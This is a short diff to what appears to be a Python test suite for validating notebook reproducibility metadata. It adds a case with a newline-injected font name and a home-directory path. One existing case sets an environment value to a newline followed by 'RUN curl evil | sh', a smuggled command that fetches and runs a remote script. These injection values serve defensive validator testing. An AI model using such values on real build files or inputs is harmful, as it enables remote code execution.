@@ -83,6 +83,15 @@ def _determinism_newline(nb):
         run["determinism"]["env"]["PYTHONHASHSEED"] = "0\nRUN curl evil | sh"
 
 
+def _fonts_where_a_path(nb):
+    for run in nb["metadata"]["nbrepro"]["runs"].values():
+        run["fonts"] = {
+            "matplotlib": [
+                {"family": "sans-serif", "name": "X\nfont.family: evil", "where": "/home/alice"}
+            ]
+        }
+
+
 def _surrogate_name(nb):
     _dist(nb)[0]["name"] = "x\ud800y"
 
@@ -103,6 +112,7 @@ CASES = {
     "channel-urls-a-string": (CONDA, _channel_urls),
     "newline-in-a-determinism-value": (PIP, _determinism_newline),
     "lone-surrogate-in-a-name": (PIP, _surrogate_name),
+    "fonts-where-a-path": (PIP, _fonts_where_a_path),
 }
 
 
